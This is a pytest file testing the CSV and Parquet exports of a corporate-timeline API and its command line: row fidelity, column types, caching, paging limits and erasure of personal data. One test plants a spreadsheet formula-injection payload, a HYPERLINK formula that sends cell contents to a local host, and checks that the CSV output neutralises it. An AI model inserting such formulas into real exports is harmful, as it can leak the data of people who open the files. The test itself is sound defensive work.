"""Every list as CSV and as Parquet: the rows of the JSON, whole, with days as days."""

from __future__ import annotations

import csv
import io
import json
import re
import sys
import warnings
from datetime import UTC, date, datetime
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pyarrow as pa  # type: ignore[import-untyped]
import pytest
from click.testing import CliRunner
from pyarrow import parquet
from starlette.exceptions import StarletteDeprecationWarning

from api import Timeline
from api.app import create_app
from api.cli import timeline as cli
from api.forms.as_csv import guarded
from api.questions import QUESTIONS, loaded
from api.routes import lists
from api.settings import Settings
from api.tables import EVENTS, STATEMENTS
from tests.acceptance import crew
from timeline.bundle import bundle_of, read_bundle
from timeline.recorder import InjectedClock

with warnings.catch_warnings():  # it would rather have another client, and works with this one
    warnings.simplefilter("ignore", StarletteDeprecationWarning)
    from fastapi.testclient import TestClient

if TYPE_CHECKING:
    from collections.abc import Iterator

    from click.testing import Result
    from httpx import Response

SAMPLES = Path(__file__).parents[2] / "samples"
RELEASE = SAMPLES / "releases" / "tarnbrook-aerospace" / "release.txt"
NOW = datetime(2026, 3, 2, 12, tzinfo=UTC)
OF_ONE = "/v1/issuers/migenix"
WHEN = {"as_of": "2009-04-01"}
LISTS = (
    *("/v1/issuers", "/v1/programs", "/v1/milestones", "/v1/events", "/v1/events/ev-om-top"),
    *("/v1/drafts", "/v1/drafts/edits"),
    *(f"{OF_ONE}/{name}" for name in ("programs", "milestones", "statements", "documents")),
    *(f"{OF_ONE}/{question.name}" for question in QUESTIONS),
    *(f"{OF_ONE}/changes?from=2008-07-08&to=2009-04-01", f"{OF_ONE}/findings"),
)
DAYS = re.compile(r"(^|\.)(earliest|latest|closes_on|silent_since|last_mentioned_on)$")
INSTANTS = {"time", "recorded_at", "since"}
FORMULA = '=HYPERLINK("http://127.0.0.1/?"&A1,"more")'


@pytest.fixture(scope="module")
def url(tmp_path_factory: pytest.TempPathFactory) -> str:
    """The URL of a store with the sample, and with drafts of which one was edited."""
    url = f"sqlite:///{tmp_path_factory.mktemp('tables') / 'timeline.db'}"
    with Timeline(url, recorded_by="ann", clock=InjectedClock(NOW), create=True) as timeline:
        timeline.import_bundle(read_bundle(SAMPLES / "migenix" / "bundle.json"))
        timeline.extract(RELEASE.read_bytes(), "migenix", published="2024-02-27", save=True)
        draft = timeline.drafts("migenix").items[0]["id"]
        timeline.edit(draft, {"speaker": FORMULA}, reason="x")
    return url


@pytest.fixture(scope="module")
def client(url: str) -> Iterator[TestClient]:
    app = create_app(Settings(url, hosts=("testserver",)), clock=InjectedClock(NOW))
    with TestClient(app, raise_server_exceptions=False) as client:
        yield client


def got(client: TestClient, route: str, **params: str) -> Response:
    clocks = {} if "changes" in route or "events" in route or "drafts" in route else WHEN
    asked = client.get(route).request.url.params.merge(clocks | params)
    response: Response = client.get(route, params=asked)
    assert response.status_code == 200, response.text
    return response


def rows_of(client: TestClient, route: str, **params: str) -> list[dict[str, Any]]:
    told: list[dict[str, Any]] = got(client, route, limit="10000", **params).json()["items"]
    assert told
    return told


def under(row: Any, path: str) -> Any:
    """Look a dotted path up, in a way of its own."""
    for key in path.split("."):
        row = row.get(key) if isinstance(row, dict) else None
    return row


def table_of(response: Response) -> Any:
    return parquet.read_table(io.BytesIO(response.content))


def as_cell(value: Any) -> str:
    if value is None:
        return ""
    if isinstance(value, str):
        return guarded(value)
    if isinstance(value, list) and all(isinstance(one, str) for one in value):
        return guarded("; ".join(value))
    return json.dumps(value, ensure_ascii=False)


@pytest.mark.parametrize("explain", ["false", "true"])
@pytest.mark.parametrize("route", LISTS)
def test_csv_has_the_rows_of_the_json(client: TestClient, route: str, explain: str) -> None:
    response = got(client, route, format="csv", explain=explain)
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    header, *lines = csv.reader(io.StringIO(response.text, newline=""))
    rows = rows_of(client, route, explain=explain)
    assert lines == [[as_cell(under(row, path)) for path in header] for row in rows]
    assert len(set(header)) == len(header) > 4
    assert not [i for i, path in enumerate(header) if not any(under(r, path) for r in rows)][6:]


@pytest.mark.parametrize("explain", ["false", "true"])
@pytest.mark.parametrize("route", LISTS)
def test_parquet_has_the_rows_of_the_json(client: TestClient, route: str, explain: str) -> None:
    response = got(client, route, format="parquet", explain=explain)
    assert response.headers["content-type"] == "application/vnd.apache.parquet"
    table = table_of(response)
    header = got(client, route, format="csv", explain=explain).text.partition("\r\n")[0]
    assert table.column_names == header.split(",")
    rows = rows_of(client, route, explain=explain)
    assert table.to_pylist() == [
        {field.name: as_told(under(row, field.name), field) for field in table.schema}
        for row in rows
    ]


def as_told(value: Any, field: Any) -> Any:
    """Return what a column should hold of `value`: by its name, not by what we say its type is."""
    if value is None:
        return None
    if DAYS.search(field.name):
        assert field.type == pa.date32()
        return date.fromisoformat(value)
    if field.name in INSTANTS and "T" in value:
        assert field.type == pa.timestamp("us", "UTC")
        return datetime.fromisoformat(value)
    if isinstance(value, list) and pa.types.is_list(field.type):
        return value
    if isinstance(value, dict | list):
        assert field.type == pa.string()
        return json.dumps(value, ensure_ascii=False, separators=(",", ":"))
    kinds = {str: pa.string(), bool: pa.bool_(), int: pa.int64(), float: pa.float64()}
    assert field.type == kinds[type(value)] or (field.type, type(value)) == (pa.float64(), int)
    return value


def test_columns_have_their_types_whatever_the_rows(client: TestClient) -> None:
    none = got(client, f"{OF_ONE}/milestones", as_of="1990-01-01", format="parquet")
    table = table_of(none)
    assert len(table) == 0
    types = {field.name: str(field.type) for field in table.schema}
    assert types["standing.window.latest"] == "date32[day]"
    assert types["revisions"] == types["position"] == "int64"
    assert types["verdict"] == types["standing.stated_on"] == "string"
    full = got(client, f"{OF_ONE}/milestones", format="parquet")
    assert table_of(full).schema.equals(table.schema)


def test_a_slip_and_what_decided_are_lists(client: TestClient) -> None:
    response = got(client, f"{OF_ONE}/statements", format="parquet", explain="true")
    schema = parquet.read_schema(io.BytesIO(response.content))
    assert str(schema.field("slip_days").type) == "list<element: int64>"
    assert str(schema.field("because").type) == "list<element: string>"


def test_the_file_says_at_which_clocks_it_holds(client: TestClient) -> None:
    response = got(client, f"{OF_ONE}/statements", format="parquet")
    told = parquet.read_schema(io.BytesIO(response.content)).metadata
    asked = got(client, f"{OF_ONE}/statements").json()
    for name in ("as_of", "known_at", "as_at", "position"):
        assert told[name.encode()].decode() == str(asked[name])
    assert response.headers["content-disposition"] == (
        'attachment; filename="statements-2009-04-01.parquet"'
    )


@pytest.mark.parametrize("form", ["csv", "parquet"])
@pytest.mark.parametrize("route", LISTS)
def test_a_table_has_one_etag_and_304(client: TestClient, route: str, form: str) -> None:
    first = got(client, route, format=form)
    assert first.headers["vary"] == "Accept"
    assert first.headers["x-content-type-options"] == "nosniff"
    params = first.request.url.params
    sent = {"If-None-Match": first.headers["etag"]}
    again = client.get(route, params=params, headers=sent)
    assert (again.status_code, again.content) == (304, b"")
    assert got(client, route).headers["etag"] != first.headers["etag"]


def test_without_a_format_the_accept_header_decides(client: TestClient) -> None:
    asked = {"Accept": "text/csv, application/json;q=0.5"}
    response = client.get(f"{OF_ONE}/statements", params=WHEN, headers=asked)
    assert response.content == got(client, f"{OF_ONE}/statements", format="csv").content
    plain = client.get(f"{OF_ONE}/statements", params=WHEN)
    assert (plain.headers["content-type"], plain.headers["vary"]) == ("application/json", "Accept")


@pytest.mark.parametrize("route", ["/v1/events", f"{OF_ONE}/statements", "/v1/programs"])
def test_pages_of_a_table_are_refused(client: TestClient, route: str) -> None:
    cursor = client.get(route, params={"limit": "3"}).json()["next"]
    for name, value in {"limit": "3", "cursor": cursor, "proof": "true"}.items():
        response = client.get(route, params={"format": "csv", "explain": "true", name: value})
        assert (response.status_code, response.json()["parameter"]) == (400, name)
        assert "format=json" in response.json()["detail"]


@pytest.mark.parametrize("route", ["/v1/issuers/migenix", "/v1/documents/mbi-2004-08-03"])
def test_one_thing_is_no_table(client: TestClient, route: str) -> None:
    response = client.get(route, params={"format": "csv"})
    assert (response.status_code, response.json()["parameter"]) == (400, "format")


def test_what_is_read_in_pages_is_whole(
    client: TestClient, monkeypatch: pytest.MonkeyPatch
) -> None:
    for route in ("/v1/events", "/v1/programs"):
        whole = got(client, route, format="csv").content
        with monkeypatch.context() as patched:
            patched.setattr(lists, "PAGE_MAX", 2)
            assert got(client, route, format="csv").content == whole
        assert whole.count(b"\r\n") > 6
    some = got(client, "/v1/events", format="csv", after="380", as_at="position:383").text
    positions = [line.partition(",")[0] for line in some.splitlines()[1:]]
    assert positions == ["381", "382", "383"]


def test_pages_of_one_table_are_of_one_position(
    url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """What is appended while a table is read does not come into it."""
    own = f"sqlite:///{tmp_path / 'timeline.db'}"
    with Timeline(own, create=True) as timeline:
        timeline.import_bundle(read_bundle(SAMPLES / "migenix" / "bundle.json"))
    read = Timeline.events

    def appending(self: Timeline, **asked: Any) -> Any:
        answer = read(self, **asked)
        name = f"ev-{len(answer.items)}-{asked['after']}"
        day = {"occurred": "2009-11", "disclosed": "2009-11-30"}
        self.record("migenix", {"id": name, "type": "corp.office_moved", **day})
        return answer

    monkeypatch.setattr(lists, "PAGE_MAX", 100)
    monkeypatch.setattr(Timeline, "events", appending)
    with TestClient(create_app(Settings(own, hosts=("testserver",)))) as client:
        told = client.get("/v1/events", params={"format": "csv"}).text
    assert told.splitlines()[-1].startswith("383,")


def test_too_many_rows_are_refused(client: TestClient, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(lists, "PAGE_MAX", 100)
    monkeypatch.setattr(lists, "ROWS_MAX", 200)
    response = client.get("/v1/events", params={"format": "csv"})
    assert (response.status_code, response.json()["parameter"]) == (400, "format")
    assert "at most 200 rows" in response.json()["detail"]


def run(url: str, *args: str) -> Result:
    env = {"TIMELINE_DATABASE_URL": url}
    return CliRunner().invoke(cli, args, env=env, prog_name="timeline")


VERBS = (
    (f"{OF_ONE}/statements", ("statements", "migenix")),
    (f"{OF_ONE}/milestones", ("milestones", "migenix")),
    (f"{OF_ONE}/findings", ("findings", "migenix")),
    (f"{OF_ONE}/scorecard", ("scorecard", "migenix")),
    ("/v1/milestones", ("milestones", "--all")),
    ("/v1/programs", ("programs", "--all")),
)


@pytest.mark.parametrize(("route", "verb"), VERBS)
def test_the_command_line_writes_the_same_bytes(
    client: TestClient, url: str, tmp_path: Path, route: str, verb: tuple[str, ...]
) -> None:
    when = ("--as-of", WHEN["as_of"])
    assert run(url, *verb, *when, "--csv").stdout_bytes == got(client, route, format="csv").content
    file = tmp_path / "table.parquet"
    done = run(url, *verb, *when, "--parquet", str(file))
    rows = len(parquet.read_table(file))
    assert (done.exit_code, done.stdout.split(" ")[:2]) == (0, [f"{file}:", str(rows)])
    assert file.read_bytes() == got(client, route, format="parquet").content


def test_the_command_line_writes_one_form(url: str, tmp_path: Path) -> None:
    file = tmp_path / "a.parquet"
    for others in (("--json",), ("--csv",)):
        done = run(url, "issuers", *others, "--parquet", str(file))
        assert (done.exit_code, done.stderr) == (
            2,
            f"error: --parquet: cannot go with {others[0]}; choose one\n",
        )
    done = run(url, "events", "--follow", "--parquet", str(file))
    assert "cannot go with --parquet" in done.stderr
    done = run(url, "issuers", "--parquet", str(tmp_path / "no" / "folder"))
    assert (done.exit_code, "Traceback" in done.output) == (2, False)
    assert list(tmp_path.iterdir()) == []


def test_without_the_extra_parquet_says_what_to_do(
    client: TestClient, url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setitem(sys.modules, "pyarrow", None)
    response = client.get("/v1/issuers", params={"format": "parquet"})
    assert response.status_code == 406
    assert "corporate-timeline[parquet]" in response.json()["detail"]
    done = run(url, "issuers", "--parquet", str(tmp_path / "a"))
    assert done.exit_code == 2
    assert "corporate-timeline[parquet]" in done.stderr
    assert list(tmp_path.iterdir()) == []
    assert got(client, "/v1/issuers", format="csv").status_code == 200


def test_no_text_of_others_begins_a_formula(client: TestClient) -> None:
    told = got(client, "/v1/drafts", format="csv").text
    rows = list(csv.DictReader(io.StringIO(told, newline="")))
    assert f"'{FORMULA}" in {row["speaker"] for row in rows}
    table = table_of(got(client, "/v1/drafts", format="parquet"))
    assert FORMULA in set(table["speaker"].to_pylist())


PERSONAL = ("/v1/events", "/v1/issuers/larkspur/governance", "/v1/issuers/larkspur/commitments")


def test_erased_facts_are_in_no_table_and_no_cache_keeps_one(tmp_path: Path) -> None:
    url = f"sqlite:///{tmp_path / 'timeline.db'}"
    with Timeline(url, create=True) as timeline:
        timeline.import_bundle(bundle_of(crew.BUNDLE))
    with TestClient(create_app(Settings(url, hosts=("testserver",)))) as client:
        assert [crew.GONE_NAME in told for told in _told(client)] == [True] * 6
        with Timeline(url) as timeline:
            timeline.erase("larkspur", crew.GONE, reason="asked to be forgotten")
        assert [crew.GONE_NAME in told for told in _told(client)] == [False] * 6


def _told(client: TestClient) -> Iterator[str]:
    for route in PERSONAL:
        for form in ("csv", "parquet"):
            response = client.get(route, params={"format": form})
            assert response.headers["cache-control"] == "private, no-store"
            yield response.text if form == "csv" else str(table_of(response).to_pylist())


def test_a_layout_names_the_shape_of_its_rows() -> None:
    for layout in (STATEMENTS, EVENTS, *(question.layout for question in QUESTIONS)):
        assert loaded(layout.shape).__doc__
